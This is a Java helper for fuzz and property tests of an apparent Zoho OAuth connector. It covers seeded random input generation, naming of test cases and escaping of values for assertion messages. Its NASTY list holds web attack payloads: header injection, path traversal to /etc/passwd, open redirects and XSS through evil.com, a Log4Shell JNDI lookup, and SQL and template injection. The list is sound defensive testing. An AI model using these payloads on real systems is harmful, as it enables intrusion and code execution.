package io.zohoconnect.fuzz;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.params.provider.Arguments;

import static io.zohoconnect.fuzz.Gen.weighted;

/**
 * Hostile inputs shared by the fuzz and property tests, the seed of their random draws, and the cases of a
 * property: every edge case of its {@link Gen generators} first, then {@code tries} random draws.
 *
 * <p>A property is a {@code @ParameterizedTest} fed by {@link #cases}; each invocation is named
 * {@code seed <seed> edge case|random #<n>: <input>}. An end-to-end fuzz test (which needs the running
 * service of the shared Spring context) loops over {@link #sample} in one {@code @Test}. Either way every
 * failure also carries the seed, added by {@link ReplaySeed} (and by {@link ReplyChecks}).
 *
 * <p><b>Replaying a failure.</b> Each run draws one seed (printed in every failure and every case's name);
 * every test derives its own {@link Random} from it and the test's name, so the same seed gives the same
 * cases whatever else runs:
 * <pre>
 * ./mvnw -B test -Dtest='DataCentersFuzzTest#anAccountsServerNamesOnlyTheDcItIsTheConfiguredServerOf' -Dfuzz.seed=-4417...
 * </pre>
 * Without {@code -Dfuzz.seed} a run takes a new random seed, so the suite explores new inputs each time.
 */
public final class Fuzz {

    /** The seed of this JVM's random draws: {@code -Dfuzz.seed=…} replays a failure. */
    public static final long SEED = Long.getLong("fuzz.seed", new Random().nextLong());

    /** What a token looks like: Zoho tokens, codes and client ids are {@code 1000.} + hex. */
    public static final Pattern TOKEN_LIKE = Pattern.compile("1000\\.[0-9a-fA-F]{8,}");

    /** Values that have broken web services before: markup, traversal, open redirects, encodings, controls. */
    public static final List<String> NASTY = List.of(
            "", " ", "\t", "\r\n", "a\r\nSet-Cookie: pwned=1", "\u0000", "%00", "a%00b", "%0d%0aX-Injected:%201",
            "%", "%%", "%zz", "%2", "%C0%AE", "%FF%FE", "+", "&", "=", "?", "#", ";", "\\", "'", "\"", "`",
            "..", "../..", "/..", "/../../etc/passwd", "..%2f..%2f", "%2e%2e%2f", "//evil.com", "//evil.com/x",
            "/\\evil.com", "\\\\evil.com", "https://evil.com", "https://evil.com/oauth/callback",
            "https://app.example.com.evil.com/", "https://app.example.com@evil.com/", "http://localhost@evil.com",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>x</script>",
            "<script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
            "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</textarea><script>x</script>",
            "${jndi:ldap://evil.com/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n", "' OR '1'='1", "'; DROP TABLE x; --",
            "null", "undefined", "NaN", "-1", "0", "9999999999999999999999", "{}", "[]", "true",
            "\u202egnp.exe", "\uFEFFeu", "\u00a0eu\u00a0", "ü", "日本語", "😀", "\uD800", "\u0130", "\u212A",
            "eu", "EU", " eu ", "us", "cn", "ca", "uk", "mars", "production", "SANDBOX", "developer", "staging",
            "ZohoCRM.modules.ALL", "ZohoCRM.modules.ALL,ZohoCRM.settings.ALL", "ZohoCRM.modules.ALL<x>",
            "access_denied", "1000.0123456789abcdef0123456789abcdef", "acme", "acme-eu", "a.b_c-d",
            "a".repeat(64), "a".repeat(65), "x".repeat(300), "y".repeat(5000));

    private Fuzz() {
    }

    /**
     * Any text: the nasty list, printable ASCII (up to 80), any UTF-16 unit including lone surrogates (up to
     * 120), and two or three nasty pieces glued together. Edge cases: every nasty value; " " and "~" (printable
     * bounds); U+0000 and U+FFFF alone (UTF-16 bounds); "y" x 10000 (the last nasty value glued to itself).
     */
    public static Gen<String> text() {
        return Gen.frequency(
                weighted(4, Gen.eachOf(NASTY)),
                weighted(3, Gen.strings(' ', '~', 0, 80)),
                weighted(2, Gen.strings('\u0000', '\uffff', 0, 120)),
                weighted(2, Gen.of(NASTY).list(2, 3).map(parts -> String.join("", parts))));
    }

    /** {@code valid} most of the time, else hostile text, else absent (null). Edge cases: all of theirs, and null. */
    public static Gen<String> mostly(Gen<String> valid) {
        return Gen.frequency(weighted(5, valid), weighted(4, text()), weighted(1, Gen.just(null)));
    }

    /** A {@link Random} for one test or property: the run's seed and the name give its draws. */
    public static Random random(String name) {
        return new Random(SEED ^ name.hashCode());
    }

    /** Every edge case of {@code gen}, then {@code tries} random values from {@code random}. */
    public static <T> List<T> sample(Gen<T> gen, int tries, Random random) {
        List<T> out = new ArrayList<>(gen.edgeCases());
        for (int i = 0; i < tries; i++) {
            out.add(gen.draw(random));
        }
        return out;
    }

    /**
     * The invocations of the {@code @ParameterizedTest} {@code property}, one argument per generator: every
     * combination of their edge cases (or each edge case at least once, when there are many: see
     * {@link Gen#combined}), then {@code tries} random draws from {@link #random random(property)}. Each is named
     * with the seed, its kind and number, and the arguments as {@link #show} prints them.
     */
    public static Stream<Arguments> cases(String property, int tries, Gen<?>... parameters) {
        Gen<Object[]> arguments = Gen.combined(Arrays.asList(parameters), values -> values);
        List<Object[]> edges = arguments.edgeCases();
        Random random = random(property);
        Stream<Arguments> edgeCases = IntStream.range(0, edges.size())
                .mapToObj(i -> named("edge case #" + (i + 1), edges.get(i)));
        Stream<Arguments> draws = IntStream.range(0, tries)
                .mapToObj(i -> named("random #" + (i + 1), arguments.draw(random)));
        return Stream.concat(edgeCases, draws);
    }

    private static Arguments named(String which, Object[] values) {
        String shown = Arrays.stream(values).map(value -> show(value, 80)).collect(Collectors.joining(", "));
        return Arguments.argumentSet("seed " + SEED + " " + which + ": " + shown, values);
    }

    /** For assertion messages: the input, quoted and escaped so control characters show. */
    public static String show(Object value) {
        return show(value, 300);
    }

    /** The same, cut after {@code max} characters. */
    public static String show(Object value, int max) {
        if (value == null) {
            return "null";
        }
        StringBuilder out = new StringBuilder("\"");
        String text = value.toString();
        for (int i = 0; i < Math.min(text.length(), max); i++) {
            char c = text.charAt(i);
            out.append(c < 0x20 || c == 0x7f || (c >= 0xd800 && c <= 0xdfff) || c == 0xffff
                    ? String.format("\\u%04x", (int) c) : c);
        }
        return out.append(text.length() > max ? "…\" (" + text.length() + " chars)" : "\"").toString();
    }
}
